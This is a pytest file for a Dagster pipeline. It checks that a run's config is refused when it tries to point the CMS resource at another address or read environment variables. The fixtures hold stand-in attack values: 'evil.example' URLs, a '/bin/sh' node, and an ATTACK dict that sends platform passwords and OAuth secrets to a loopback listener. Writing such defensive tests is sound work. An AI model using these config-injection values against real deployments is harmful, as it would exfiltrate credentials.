"""A run's config chooses houses and options, never where a resource calls or what it sends: a run launched through
Dagster's own API with config that points the CMS resource elsewhere, or reads an environment variable, is refused
before any call, and the address it named hears nothing."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import dagster as dg
import pytest

from pipeline.definitions import defs
from pipeline.defs.run_config import refusals
from pipeline.settings import sample_cms_settings
from sample_cms.server import SampleCms
from tests.conftest import materialize_site


class Listener(ThreadingHTTPServer):
    """An address of the attacker's own, on loopback: it notes every request it gets, with its headers."""

    def __init__(self) -> None:
        self.heard: list[dict[str, str]] = []
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                listener.heard.append(dict(self.headers))
                self.send_response(200)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args: Any) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def deployed(cms_server: SampleCms, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    """The code location's own resources, bound to a deployment's environment (the sample CMS's, with a preview
    password beside it)."""
    for name, value in {**sample_cms_settings(cms_server.url), "PREVIEW_PASSWORD": "forhandsvisning-hemmelig"}.items():
        monkeypatch.setenv(name, value)
    return dict(defs.resources)


def _site_call() -> dg.AssetsDefinition:
    """The first step of a build: the site record (its site, theme and pages) from the CMS's platform API."""
    site = dg.AssetKey("site")
    return next(a for a in defs.assets or [] if isinstance(a, dg.AssetsDefinition) and site in a.keys)


def test_a_run_config_may_choose_options_and_nothing_else() -> None:
    assert refusals({"resources": {"cms": {"config": {"site_ids": "a,b", "deadline_seconds": 60}}}}) == []
    assert refusals(
        {
            "resources": {
                "cms": {"config": {"platform_url": "http://evil.example", "site_id": {"env": "PREVIEW_PASSWORD"}}},
                "site_export": {"config": {"node": "/bin/sh", "enabled": "true"}},
                "site_output": {"config": {"membership_api_118": "https://evil.example"}},
            },
            "loggers": {"console": {"config": {"log_level": {"env": "CMS_PLATFORM_PASSWORD"}}}},
        }
    ) == [
        "resources.cms.config.platform_url is the deployment's (its environment), not a run's",
        "resources.cms.config.site_id reads an environment variable",
        "resources.site_export.config.node is the deployment's (its environment), not a run's",
        "resources.site_output.config.membership_api_118 is the deployment's (its environment), not a run's",
        "loggers reads an environment variable",
    ]


# Dagster asks a run that configures the CMS resource at all for every field bound to the environment: an attacker
# gives each, the addresses their own and the credentials read out of the environment, as the issue found.
ATTACK = {
    "platform_url": "LISTENER",
    "platform_user": {"env": "CMS_PLATFORM_USER"},
    "platform_password": {"env": "CMS_PLATFORM_PASSWORD"},
    "management_url": "LISTENER",
    "idp_token_url": "LISTENER/oauth/token",
    "idp_client_id": {"env": "CMS_IDP_CLIENT_ID"},
    "idp_client_secret": {"env": "CMS_IDP_CLIENT_SECRET"},
    "site_ids": {"env": "PREVIEW_PASSWORD"},
    "site_id": "",
    "deadline_seconds": 30,
}


@pytest.mark.parametrize(
    "refused",
    [
        "resources.cms.config.platform_url is the deployment's (its environment), not a run's",
        "resources.cms.config.idp_token_url is the deployment's (its environment), not a run's",
        "resources.cms.config.platform_password is the deployment's (its environment), not a run's",
        "resources.cms.config.site_ids reads an environment variable",
    ],
)
def test_a_launched_run_that_points_the_cms_elsewhere_is_refused_before_any_call(
    deployed: dict[str, Any], listener: Listener, refused: str
) -> None:
    config = {name: v.replace("LISTENER", listener.url) if isinstance(v, str) else v for name, v in ATTACK.items()}
    result = materialize_site([_site_call()], deployed, run_config={"resources": {"cms": {"config": config}}})
    assert not result.success
    failed = [e for e in result.all_events if e.event_type == dg.DagsterEventType.RESOURCE_INIT_FAILURE]
    failure = failed[0].event_specific_data.error  # type: ignore[union-attr]
    messages = f"{failure.message} {failure.cause.message if failure.cause else ''}"
    assert "the run's config is refused, nothing was called" in messages
    assert refused in messages
    assert "forhandsvisning-hemmelig" not in messages and "sample-password" not in messages
    assert result.get_asset_materialization_events() == []
    assert listener.heard == []
